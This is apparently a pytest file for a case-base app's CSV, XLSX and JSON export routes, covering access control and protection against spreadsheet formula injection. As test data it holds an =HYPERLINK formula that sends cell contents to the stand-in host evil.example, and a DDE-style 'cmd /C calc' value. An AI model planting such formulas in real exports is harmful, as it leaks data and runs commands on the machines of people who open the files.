"""Lists of cases are taken along as they are shown, safely, and with the rights of whoever takes them."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import replace

import pytest
from openpyxl import load_workbook
from starlette.applications import Starlette
from starlette.testclient import TestClient

from app import case_routes, routes
from app.exports.cases import COLUMNS
from app.exports.safe import safe_cell
from casebase.access import Reader
from casebase.models import Visibility
from casebase.service import Casebase
from tests.case_shelf import case, put

FORMS = ("csv", "xlsx", "json")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture
def client(casebase: Casebase, monkeypatch: pytest.MonkeyPatch) -> Iterator[TestClient]:
    """The routes over a casebase of this test's own; sign-in is what `sign_in` says."""
    for module in (routes, case_routes):
        monkeypatch.setattr(module, "knowledge", lambda _timeout: casebase)
    yield TestClient(Starlette(routes=routes.routes()), base_url="http://127.0.0.1")


def sign_in(monkeypatch: pytest.MonkeyPatch, organization: str) -> None:
    monkeypatch.setattr(case_routes, "current_reader", lambda: Reader(organization))


def _titles(form: str, content: bytes) -> list[str]:
    if form == "json":
        return [one["title"] for one in json.loads(content)["cases"]]
    if form == "csv":
        return [row[0] for row in csv.reader(io.StringIO(content.decode("utf-8-sig")))][1:]
    return [str(row[0]) for row in load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2, values_only=True)]


@pytest.mark.parametrize("form", FORMS)
def test_an_export_holds_the_cases_of_its_address_in_their_order(
    client: TestClient, casebase: Casebase, form: str
) -> None:
    put(
        casebase,
        {n: case(n, task_type="議事録" if n % 2 else "翻訳", published_on=f"2024-{n + 1:02}") for n in range(6)},
    )
    answer = client.get(f"/cases/export.{form}?task=議事録&sort=new")
    assert answer.status_code == 200
    assert _titles(form, answer.content) == ["見本の事例5", "見本の事例3", "見本の事例1"]
    assert answer.headers["cache-control"] == "private, no-store"
    assert answer.headers["content-disposition"].startswith("attachment;")


@pytest.mark.parametrize("form", FORMS)
def test_what_may_not_be_read_is_in_no_export(
    client: TestClient, casebase: Casebase, monkeypatch: pytest.MonkeyPatch, form: str
) -> None:
    secret = case(1, organization="tokyo", visibility=Visibility.OWN, title="都だけの事例")
    put(casebase, {1: secret, 2: case(2, organization="tokyo", visibility=Visibility.PUBLIC, title="公開の事例")})
    sign_in(monkeypatch, "hiroshima")
    assert _titles(form, client.get(f"/cases/export.{form}").content) == ["公開の事例"]
    assert _titles(form, client.get(f"/cases/export.{form}?q=都だけの事例").content) == ["公開の事例"]
    sign_in(monkeypatch, "tokyo")
    assert set(_titles(form, client.get(f"/cases/export.{form}").content)) == {"公開の事例", "都だけの事例"}


def test_an_unknown_form_is_absent(client: TestClient) -> None:
    assert client.get("/cases/export.exe").status_code == 404


def test_the_columns_are_those_of_the_page_in_its_language(client: TestClient, casebase: Casebase) -> None:
    put(casebase, {1: case(1, visibility=Visibility.PUBLIC)})
    rows = list(csv.reader(io.StringIO(client.get("/cases/export.csv?lang=en").content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Case", "Organisation", "Kind"] and len(rows[0]) == len(COLUMNS)
    assert rows[1][0] == "Sample case 1" and rows[1][-1].startswith("http://127.0.0.1/case?id=")


@pytest.mark.parametrize(
    "start",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\0=1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        "−1",
        "  =1",
        "　＝1",
        "\ufeff=1",
    ],
)
def test_no_cell_begins_like_a_formula(start: str) -> None:
    assert safe_cell(start).startswith("'")


@pytest.mark.parametrize("text", ["", "議事録", "1.5", "a=b", "（=1）", "'x"])
def test_other_text_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_a_hostile_title_is_text_in_every_form(client: TestClient, casebase: Casebase) -> None:
    details = case(
        1, title=FORMULA, visibility=Visibility.PUBLIC, organization="other", organization_name="＝cmd|' /C calc'!A0"
    )
    put(casebase, {1: replace(details, record={**details.record, "lessons_ja": "@SUM(1)\0\x0b終わり"})})
    rows = list(csv.reader(io.StringIO(client.get("/cases/export.csv").content.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + FORMULA and rows[1][1].startswith("'＝")
    sheet = load_workbook(io.BytesIO(client.get("/cases/export.xlsx").content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'@SUM(1)終わり" in [cell.value for cell in cells]
    assert json.loads(client.get("/cases/export.json").content)["cases"][0]["title"] == FORMULA


def test_json_holds_the_whole_record_and_how_each_effect_was_converted(client: TestClient, casebase: Casebase) -> None:
    details = case(1, visibility=Visibility.PUBLIC)
    effect = {"metric": "1人1日の削減時間", "after": "約30", "unit": "分/日", "method": "measured"}
    put(casebase, {1: replace(details, record={**details.record, "effect": [effect]})})
    one = json.loads(client.get("/cases/export.json").content)["cases"][0]
    assert one["record"]["case_id"] == "case-1"
    assert one["effects"][0]["saving"] == {"hours": 10.0, "per": "user", "bound": "about", "steps": ["day"]}
    sheet = load_workbook(io.BytesIO(client.get("/cases/export.xlsx").content)).active
    assert sheet.cell(2, COLUMNS.index("hours_user") + 1).value == 10.0
